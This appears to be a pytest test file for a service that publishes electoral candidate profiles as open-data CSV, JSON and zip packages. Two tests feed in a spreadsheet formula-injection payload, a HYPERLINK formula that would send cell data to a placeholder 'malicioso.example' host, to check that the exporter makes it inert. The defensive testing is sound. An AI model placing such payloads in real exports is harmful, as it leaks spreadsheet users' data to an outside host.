"""The open data's rows, made from the public profiles alone, and the package's files:
what a journalist opening the CSV in a spreadsheet sees, and what a script verifies."""

import csv
import hashlib
import io
import itertools
import json
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from contracts.events.capture import PublicCurricular, PublicIdentity
from services.publication.adapters import data_package
from services.publication.adapters.data_package import package
from services.publication.domain import open_data
from services.publication.domain.open_data import ElectionNames, Fingerprint, document
from services.runtime.spreadsheets import csv_text
from tests.support.open_data import CATALOGUE, PARTIES, package_problems, public_profile

NAMES = ElectionNames.of(PARTIES, CATALOGUE)
NOW = datetime(2027, 4, 2, 18, 30, 5, tzinfo=UTC)
PIECE = data_package.PIECE_BYTES


NO_SLICE = {"postulacion": "", "cargo": "", "sexo": ""}
STATISTICS = {
    "progress": [
        {
            "postulant": "pan",
            "name": "Partido Acción Nacional",
            "acronym": "PAN",
            "candidacies": 3,
            "submitted": 2,
            "validated": 2,
            "published": 1,
        }
    ],
    "sex": [{"category": "Mujer", "people": 12}],
    "age": [],
    "education": [],
    "groups": [
        {
            "group": "Persona indígena",
            "office": "diputacion-mr",
            "postulant": "pan",
            "sex": "Mujer",
            "people": None,
            "text": "menos de 5",
        }
    ],
}


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def built(statistics: object | None = None) -> dict[str, bytes]:
    tables = open_data.tables([document(public_profile(1)), document(public_profile(2))], NAMES)
    stats = None if statistics is None else (statistics, open_data.statistics_table(statistics))
    files = package(
        tables,
        election_id="local-2027",
        election_name="Elección local 2027",
        institute="IEEM",
        release_id="2027-04-02T183005Z",
        created_at=NOW,
        statistics=stats,
    ).files
    return {f.name: f.content for f in files}


def test_each_person_of_a_formula_is_a_row_under_the_column_names_ine_publishes() -> None:
    rows = open_data.candidacy_rows(document(public_profile(7)), NAMES)
    assert [(r["tipo_candidato"], r["nombre"], r["edad"]) for r in rows] == [
        ("Propietaria", "María Fernanda", 44),
        ("Suplente", "Lucía", 31),
    ]
    owner = rows[0]
    assert owner["partido_coalicion"] == "PAN"
    assert owner["cargo"] == "Diputación local de mayoría relativa"
    assert owner["distrito"] == "Distrito 01 Toluca"
    assert owner["municipio"] is None
    assert owner["nombre_candidato"] == "María Fernanda Ávila Núñez"
    assert owner["sexo"] == "Mujer"
    assert owner["fecha_publicacion"] == "2027-04-01T06:00:00Z"


def test_every_public_curricular_field_has_its_column_and_lists_are_one_cell() -> None:
    assert set(open_data.CURRICULAR_COLUMNS) == set(PublicCurricular.model_fields)
    row = open_data.curricular_row(document(public_profile(3)))
    assert row["correo_electronico"] == "c3@ejemplo.mx | equipo3@ejemplo.mx"
    assert row["cursos"] == "Derecho electoral | Finanzas públicas"
    assert row["escolaridad"] == "Licenciatura"
    assert row["url_fotografia"] == f"/fotos/{3:064x}"
    assert row["tiktok"] is None  # unanswered: an empty cell
    titles = {c.name: c.title for c in open_data.CURRICULAR_TABLE.columns}
    assert titles["propuesta_genero"].startswith("Propuesta en materia de género")


def test_only_public_identity_answers_are_a_row() -> None:
    assert set(c.name for c in open_data.IDENTITY_TABLE.columns) == {
        "id_candidatura",
        "clave_formula",
        "nombre_candidato",
        *PublicIdentity.model_fields,
    }
    assert "nivel_ingresos" not in {c.name for c in open_data.IDENTITY_TABLE.columns}
    assert open_data.identity_row(document(public_profile(2))) is None  # no public identity answer
    row = open_data.identity_row(document(public_profile(1)))
    assert row is not None and row["pueblo_indigena"] == "Mazahua" and row["discapacidad"] is None


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_proposal_that_would_run_as_a_formula_comes_out_inert_in_the_csv(lead: str) -> None:
    attack = f'{lead}HYPERLINK("https://malicioso.example/?d="&A1,"Ver propuesta")'
    profile = public_profile(1, propuesta_1=attack + " " + "x" * 300)
    tables = open_data.tables([document(profile)], NAMES)
    files = package(
        tables,
        election_id="local-2027",
        election_name="Elección",
        institute=None,
        release_id="2027-04-02T183005Z",
        created_at=NOW,
    ).files
    content = {f.name: f.content for f in files}
    cell = rows_of(content["curricular.csv"])[0]["propuesta_1"]
    assert cell.startswith("'" + lead)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The JSON keeps the text as published; numbers stay numbers in the CSV.
    assert json.loads(content["curricular.json"])[0]["propuesta_1"].startswith(lead)
    assert rows_of(content["candidaturas.csv"])[0]["edad"] == "44"


def test_the_package_validates_and_its_manifest_verifies(tmp_path: Path) -> None:
    files = built(statistics=STATISTICS)
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    assert package_problems(tmp_path / "datapackage.json") == []

    descriptor = json.loads(files["datapackage.json"])
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    assert descriptor["created"] == "2027-04-02T18:30:05Z"
    fields = descriptor["resources"][0]["schema"]["fields"]
    assert {"name": "cargo", "title": "Cargo"}.items() <= fields[6].items()

    listed = dict(
        reversed(line.split("  ")) for line in files["manifest.sha256"].decode().splitlines()
    )
    assert set(listed) == set(files) - {
        "manifest.sha256",
        *(n for n in files if n.endswith(".zip")),
    }
    assert all(hashlib.sha256(files[n]).hexdigest() == digest for n, digest in listed.items())
    # each figure a row a person reads without the JSON: names, stages, «menos de 5»
    assert rows_of(files["estadisticas.csv"]) == [
        {
            **NO_SLICE,
            "tabla": "avance_captura",
            "postulacion": "Partido Acción Nacional",
            "categoria": stage,
            "valor": value,
            "texto": value,
        }
        for stage, value in (
            ("registradas", "3"),
            ("enviadas", "2"),
            ("validadas", "2"),
            ("publicadas", "1"),
        )
    ] + [
        {**NO_SLICE, "tabla": "sexo", "categoria": "Mujer", "valor": "12", "texto": "12"},
        {
            "tabla": "grupos_identidad",
            "postulacion": "pan",
            "cargo": "diputacion-mr",
            "sexo": "Mujer",
            "categoria": "Persona indígena",
            "valor": "",
            "texto": "menos de 5",
        },
    ]
    (archive,) = (n for n in files if n.endswith(".zip"))
    with zipfile.ZipFile(io.BytesIO(files[archive])) as opened:
        assert sorted(opened.namelist()) == sorted(set(files) - {archive})


def test_the_same_profiles_give_the_same_bytes() -> None:
    assert built() == built()


def test_a_release_is_due_when_the_public_data_changed_and_the_last_is_old_enough() -> None:
    now = NOW
    data = Fingerprint(last_sequence=9, profiles=4, extra="-")
    assert open_data.due(data, None, None, now, 300)
    assert not open_data.due(data, data.text(), now - timedelta(hours=1), now, 300)
    changed = Fingerprint(last_sequence=10, profiles=4, extra="-")
    assert open_data.due(changed, data.text(), now - timedelta(seconds=301), now, 300)
    assert not open_data.due(changed, data.text(), now - timedelta(seconds=30), now, 300)


def test_release_names_are_moments_and_never_repeat() -> None:
    assert open_data.release_id(NOW, None) == "2027-04-02T183005Z"
    assert open_data.release_id(NOW, "2027-04-02T183005Z") == "2027-04-02T183006Z"
    assert open_data.release_id(NOW + timedelta(minutes=1), "2027-04-02T183005Z") == (
        "2027-04-02T183105Z"
    )


def test_every_file_in_the_zip_is_the_file_itself() -> None:
    files = built(statistics=STATISTICS)
    (archive,) = (n for n in files if n.endswith(".zip"))
    with zipfile.ZipFile(io.BytesIO(files[archive])) as opened:
        assert opened.testzip() is None
        for name in opened.namelist():
            assert opened.read(name) == files[name]


def test_a_cell_with_quotes_commas_or_line_ends_reads_back_as_written() -> None:
    tricky = 'Dijo "agua, luz"\r\ny drenaje, ya'
    profile = public_profile(1, propuesta_1=tricky, propuesta_2="-5 % de impuestos")
    (_, curricular, _) = open_data.tables([document(profile)], NAMES)
    content = data_package.csv_bytes(curricular)
    names = [c.name for c in curricular.spec.columns]
    as_the_house_writes = csv_text(
        [names, *([row.get(n) for n in names] for row in curricular.rows)]
    )
    assert content == as_the_house_writes.encode("utf-8")
    (row,) = rows_of(content)
    assert row["propuesta_1"] == tricky and row["propuesta_2"] == "'-5 % de impuestos"


@pytest.mark.parametrize(
    "offset", [0, 1, PIECE - 1, PIECE, PIECE + 17, 2 * PIECE, 2 * PIECE + 5, 3 * PIECE]
)
def test_any_part_of_a_kept_file_inflates_to_the_files_own_bytes(offset: int) -> None:
    content = hashlib.sha256(b"x").digest() * (2 * PIECE // 32) + b"fin de archivo" * 1000
    pieces = data_package.deflated_pieces(content)
    assert len(pieces) == 3
    ends = list(itertools.accumulate(len(p) for p in pieces))
    kept = b"".join(pieces)
    span = data_package.piece_span(ends, len(content), offset, PIECE)
    expected = content[offset : offset + PIECE]
    if span is None:
        assert expected == b""
        return
    part = data_package.inflated_part(kept[span.start : span.stop], span, PIECE)
    assert part == expected
    assert zlib.decompressobj(-15).decompress(kept) == content  # one deflate stream


def reference_tables(documents: list[open_data.Document]) -> list[data_package.MadeTable]:
    """The files as the release made them from every profile's document at once."""
    return [data_package.MadeTable.of(t) for t in open_data.tables(documents, NAMES)]


@pytest.mark.parametrize("count", [0, 1, 7])
def test_the_rows_made_with_each_profile_join_into_the_same_files(count: int) -> None:
    tricky = '=HYPERLINK("https://malicioso.example") dijo "agua, luz"\r\ny drenaje'
    documents = [
        document(public_profile(n, propuesta_1=tricky if n % 2 else f"Propuesta {n}"))
        for n in range(count, 0, -1)  # in any order: the release puts them in order
    ]
    in_order = sorted(documents, key=lambda d: str(d["candidacy_id"]))
    pieces = [data_package.profile_pieces(d, NAMES) for d in in_order]
    joined = data_package.joined_tables(pieces)
    assert [(t.spec, t.csv, t.json) for t in joined] == [
        (t.spec, t.csv, t.json) for t in reference_tables(documents)
    ]
    if count:
        (curricular,) = (t for t in joined if t.spec.name == "curricular")
        assert rows_of(curricular.csv)[0]["propuesta_1"].startswith("'=HYPERLINK")
        assert json.loads(curricular.json)[0]["propuesta_1"] == tricky


def test_rows_are_made_again_when_what_they_show_beside_the_ids_changes() -> None:
    renamed = CATALOGUE.model_copy(
        update={"offices": [o.model_copy(update={"name": "Diputación"}) for o in CATALOGUE.offices]}
    )
    assert ElectionNames.of(PARTIES, CATALOGUE).digest() == NAMES.digest()
    assert ElectionNames.of(PARTIES, renamed).digest() != NAMES.digest()
    assert ElectionNames.of(PARTIES[:1], CATALOGUE).digest() != NAMES.digest()
